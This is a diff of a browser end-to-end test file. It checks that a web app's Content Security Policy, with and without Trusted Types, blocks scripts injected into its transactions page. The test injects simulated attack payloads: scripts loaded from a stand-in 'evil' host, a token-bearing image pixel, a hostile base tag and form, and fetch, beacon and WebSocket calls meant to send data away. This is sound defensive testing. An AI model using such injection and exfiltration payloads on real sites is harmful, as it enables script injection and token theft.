@@ -53,89 +53,114 @@ test('no page of ours asks for what its own policy forbids', async ({ page, cont
   expect(leaks).toEqual([])
 })
 
-test('a script that got into the page runs nothing more, and sends nothing away', async ({ page, context }) => {
-  const refused = await refusalsOn(page)
-  const leaks = await leaksOf(page)
-  await signIn(context)
-  await page.goto('/transactions')
-  await page.waitForLoadState('networkidle')
-  const ran = await page.evaluate(async (evil) => {
-    const add = (tag: string, attributes: Record<string, string>, content = ''): void => {
-      const element = document.createElement(tag)
-      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
-      element.textContent = content
-      document.body.append(element)
-    }
-    add('script', {}, 'window.inline = true')
-    add('script', { src: `${evil}/steal.js` })
-    add('script', { src: 'data:text/javascript,window.fromData = true' })
-    add('script', { src: URL.createObjectURL(new Blob(['window.fromBlob = true'], { type: 'text/javascript' })) })
-    add('img', { src: 'x', onerror: 'window.handler = true' })
-    add('img', { src: `${evil}/pixel.png?token=1` })
-    add('iframe', { src: `${evil}/frame` })
-    add('iframe', { srcdoc: '<script>parent.framed = true</script>' })
-    add('object', { data: `${evil}/object` })
-    add('link', { rel: 'stylesheet', href: `${evil}/style.css` })
-    add('base', { href: `${evil}/` })
-    add('form', { action: `${evil}/form`, method: 'post', id: 'thief' })
-    ;(document.querySelector('#thief') as HTMLFormElement).submit()
-    // The tools of the browser may evaluate whatever they like; a task of the page may not.
-    await new Promise((resolve) => setTimeout(resolve))
-    const tries: Record<string, () => unknown> = {
-      // oxlint-disable-next-line no-eval -- whether it works is the question
-      eval: () => globalThis.eval('1'),
-      // oxlint-disable-next-line typescript/no-implied-eval -- the same
-      function: () => new Function('return 1')(),
-      fetch: () => fetch(`${evil}/fetch`),
-      beacon: () => navigator.sendBeacon(`${evil}/beacon`, 'token'),
-      socket: () =>
-        new Promise((resolve, reject) => {
-          const socket = new WebSocket(evil.replace('https', 'wss'))
-          socket.addEventListener('open', resolve)
-          socket.addEventListener('error', reject)
-        }),
-      worker: () =>
-        new Promise((resolve, reject) => {
-          const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
-          worker.addEventListener('message', resolve)
-          worker.addEventListener('error', reject)
-        }),
-    }
-    const succeeded: string[] = []
-    for (const [name, attempt] of Object.entries(tries)) {
-      try {
-        await attempt()
-        succeeded.push(name)
-      } catch {
-        // That is how it should be.
+/** What a browser reports that has no Trusted Types; one that has them refuses most of it before. */
+const WITHOUT_TYPES = ['object-src', 'script-src', 'script-src-attr', 'script-src-elem']
+const WITH_TYPES = ['require-trusted-types-for']
+
+/** As in a browser that does not know Trusted Types. */
+const withoutTypes = async (page: Page) =>
+  page.route(`${origin()}/transactions`, async (route) => {
+    const response = await route.fetch()
+    const headers = response.headers()
+    const policy = headers['content-security-policy']?.replace(/;(require-trusted-types-for|trusted-types)[^;]*/g, '')
+    await route.fulfill({ response, headers: { ...headers, 'content-security-policy': policy ?? '' } })
+  })
+
+for (const hasTypes of [true, false])
+  test(`a script that got into the page runs nothing more, and sends nothing away, ${hasTypes ? 'with' : 'without'} Trusted Types`, async ({
+    page,
+    context,
+  }) => {
+    if (!hasTypes) await withoutTypes(page)
+    const refused = await refusalsOn(page)
+    const leaks = await leaksOf(page)
+    await signIn(context)
+    await page.goto('/transactions')
+    await page.waitForLoadState('networkidle')
+    const ran = await page.evaluate(async (evil) => {
+      const add = (tag: string, attributes: Record<string, string>, content = ''): void => {
+        const element = document.createElement(tag)
+        try {
+          for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
+          element.textContent = content
+          document.body.append(element)
+        } catch (error) {
+          if (!(error instanceof TypeError)) throw error
+        }
       }
-    }
-    return { succeeded: succeeded.filter((name) => name !== 'beacon'), base: document.baseURI }
-  }, EVIL)
-  expect(ran.succeeded).toEqual([])
-  expect(new URL(ran.base).origin).toBe(origin())
-  await expect
-    .poll(async () => [...new Set(await refused())].toSorted())
-    .toEqual(
-      expect.arrayContaining([
-        'base-uri',
-        'connect-src',
-        'form-action',
-        'frame-src',
-        'img-src',
-        'object-src',
-        'script-src',
-        'script-src-attr',
-        'script-src-elem',
-        'style-src-elem',
-        'worker-src',
-      ]),
-    )
-  const marks = ['inline', 'stolen', 'fromData', 'fromBlob', 'handler', 'framed']
-  expect(await page.evaluate((names) => names.filter((name) => name in window), marks)).toEqual([])
-  expect(new URL(page.url()).origin).toBe(origin())
-  expect(leaks).toEqual([])
-})
+      add('script', {}, 'window.inline = true')
+      add('script', { src: `${evil}/steal.js` })
+      add('script', { src: 'data:text/javascript,window.fromData = true' })
+      add('script', { src: URL.createObjectURL(new Blob(['window.fromBlob = true'], { type: 'text/javascript' })) })
+      add('img', { src: 'x', onerror: 'window.handler = true' })
+      add('img', { src: `${evil}/pixel.png?token=1` })
+      add('iframe', { src: `${evil}/frame` })
+      add('iframe', { srcdoc: '<script>parent.framed = true</script>' })
+      add('object', { data: `${evil}/object` })
+      add('link', { rel: 'stylesheet', href: `${evil}/style.css` })
+      add('base', { href: `${evil}/` })
+      add('form', { action: `${evil}/form`, method: 'post', id: 'thief' })
+      ;(document.querySelector('#thief') as HTMLFormElement).submit()
+      // The tools of the browser may evaluate whatever they like; a task of the page may not.
+      await new Promise((resolve) => setTimeout(resolve))
+      const tries: Record<string, () => unknown> = {
+        // oxlint-disable-next-line no-eval -- whether it works is the question
+        eval: () => globalThis.eval('1'),
+        // oxlint-disable-next-line typescript/no-implied-eval -- the same
+        function: () => new Function('return 1')(),
+        html: () => {
+          document.createElement('div').innerHTML = '<b>written</b>'
+        },
+        scriptAddress: () => {
+          document.createElement('script').src = `${evil}/steal.js`
+        },
+        fetch: () => fetch(`${evil}/fetch`),
+        beacon: () => navigator.sendBeacon(`${evil}/beacon`, 'token'),
+        socket: () =>
+          new Promise((resolve, reject) => {
+            const socket = new WebSocket(evil.replace('https', 'wss'))
+            socket.addEventListener('open', resolve)
+            socket.addEventListener('error', reject)
+          }),
+        worker: () =>
+          new Promise((resolve, reject) => {
+            const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
+            worker.addEventListener('message', resolve)
+            worker.addEventListener('error', reject)
+          }),
+      }
+      const succeeded: string[] = []
+      for (const [name, attempt] of Object.entries(tries)) {
+        try {
+          await attempt()
+          succeeded.push(name)
+        } catch {
+          // That is how it should be.
+        }
+      }
+      return { succeeded: succeeded.filter((name) => name !== 'beacon'), base: document.baseURI }
+    }, EVIL)
+    expect(ran.succeeded).toEqual(hasTypes ? [] : ['html', 'scriptAddress'])
+    expect(new URL(ran.base).origin).toBe(origin())
+    await expect
+      .poll(async () => [...new Set(await refused())].toSorted())
+      .toEqual(
+        expect.arrayContaining([
+          'base-uri',
+          'connect-src',
+          'form-action',
+          'img-src',
+          'frame-src',
+          'worker-src',
+          'style-src-elem',
+          ...(hasTypes ? WITH_TYPES : WITHOUT_TYPES),
+        ]),
+      )
+    const marks = ['inline', 'stolen', 'fromData', 'fromBlob', 'handler', 'framed']
+    expect(await page.evaluate((names) => names.filter((name) => name in window), marks)).toEqual([])
+    expect(new URL(page.url()).origin).toBe(origin())
+    expect(leaks).toEqual([])
+  })
 
 test('no other page may show ours in a frame, nor read it from a window that it opened', async ({ browser }) => {
   const other = createServer((_, answer) =>
